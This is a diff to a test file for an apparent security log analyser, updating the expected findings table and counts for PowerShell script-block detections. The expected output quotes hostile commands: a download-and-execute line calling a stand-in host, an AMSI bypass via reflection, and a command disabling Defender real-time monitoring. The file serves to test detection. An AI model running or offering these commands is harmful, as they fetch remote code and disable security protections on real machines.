@@ -136,17 +136,23 @@ describe('svc analyze --format table', () => {
   Host WS-FIN-07.corp.harrowpell.example
   SHA-256 ${createHash('sha256').update(readFileSync(powershell)).digest('hex')}
 
-  high    1  Script Block Downloads And Runs Code  T1059.001 T1105  execution, command and control  2026-11-17 08:52:48
-             ScriptBlockText: IEX (New-Object Net.WebClient).DownloadString('http://cdn.freight-docs.example/inv/4471')
-  high    1  Script Block Tampers With AMSI        T1562.001 T1059.001  execution, defense evasion  2026-11-17 08:52:48
-             ScriptBlockText: $u = 'http://cdn.freight-docs.example/lib/hpsvc' [Ref].Assembly.GetType('System.Management.Automation.Amsi'+'Utils').GetField('amsiInit'+'Failed','NonPublic,Static').SetValue($null,$…
-  high    1  Script Block Weakens Defender         T1562.001  defense evasion                       2026-11-17 09:04:03
+  high    1  Protection Of Defender Switched Off By A Short Name        T1562.001  defense evasion                       2026-11-17 09:04:03
              ScriptBlockText: Set-MpPreference -DisableRealtimeMonitoring $true
-  medium  1  Time Of A File Set By A Script        T1070.006  defense evasion                       2026-11-17 08:52:48
+  high    1  Script Block Downloads And Runs Code                       T1059.001 T1105  execution, command and control  2026-11-17 08:52:48
+             ScriptBlockText: IEX (New-Object Net.WebClient).DownloadString('http://cdn.freight-docs.example/inv/4471')
+  high    1  Script Block Tampers With AMSI                             T1562.001 T1059.001  execution, defense evasion  2026-11-17 08:52:48
+             ScriptBlockText: $u = 'http://cdn.freight-docs.example/lib/hpsvc' [Ref].Assembly.GetType('System.Management.Automation.Amsi'+'Utils').GetField('amsiInit'+'Failed','NonPublic,Static').SetValue($null,$…
+  high    1  Script Block Weakens Defender                              T1562.001  defense evasion                       2026-11-17 09:04:03
+             ScriptBlockText: Set-MpPreference -DisableRealtimeMonitoring $true
+  medium  1  Program Fetched To A Folder For Passing Files By A Script  T1105  command and control                       2026-11-17 08:52:48
+             ScriptBlockText: $u = 'http://cdn.freight-docs.example/lib/hpsvc' [Ref].Assembly.GetType('System.Management.Automation.Amsi'+'Utils').GetField('amsiInit'+'Failed','NonPublic,Static').SetValue($null,$…
+  medium  1  Program Started Without A Window By A Script               T1564.003 T1059.001  execution, defense evasion  2026-11-17 08:52:48
+             ScriptBlockText: $u = 'http://cdn.freight-docs.example/lib/hpsvc' [Ref].Assembly.GetType('System.Management.Automation.Amsi'+'Utils').GetField('amsiInit'+'Failed','NonPublic,Static').SetValue($null,$…
+  medium  1  Time Of A File Set By A Script                             T1070.006  defense evasion                       2026-11-17 08:52:48
              ScriptBlockText: $u = 'http://cdn.freight-docs.example/lib/hpsvc' [Ref].Assembly.GetType('System.Management.Automation.Amsi'+'Utils').GetField('amsiInit'+'Failed','NonPublic,Static').SetValue($null,$…`);
     const { out: story } = await svc('analyze', security, '--quiet');
     const severities = [...story.matchAll(/^ {2}(critical|high|medium|low) +\d/gm)].map(([, severity]) => severity);
-    expect(severities).toHaveLength(17);
+    expect(severities).toHaveLength(18);
     expect(severities).toEqual(severities.toSorted((a, b) => order.indexOf(a!) - order.indexOf(b!)));
   });
 
@@ -175,7 +181,7 @@ describe('svc analyze --rules', () => {
     const { rules, findings } = JSON.parse(out) as Report;
     expect(rules.loaded).toBeGreaterThan(10);
     expect(rules.rejected).toEqual([{ path: broken, line: expect.any(Number), message: expect.stringMatching(/./) }]);
-    expect(findings).toHaveLength(3);
+    expect(findings).toHaveLength(5);
     const table = await svc('analyze', powershell, '--rules', broken, '--rules', evasion);
     expect(table.out).toMatch(/rule left out: .*broken\.yml:\d+: /);
   });
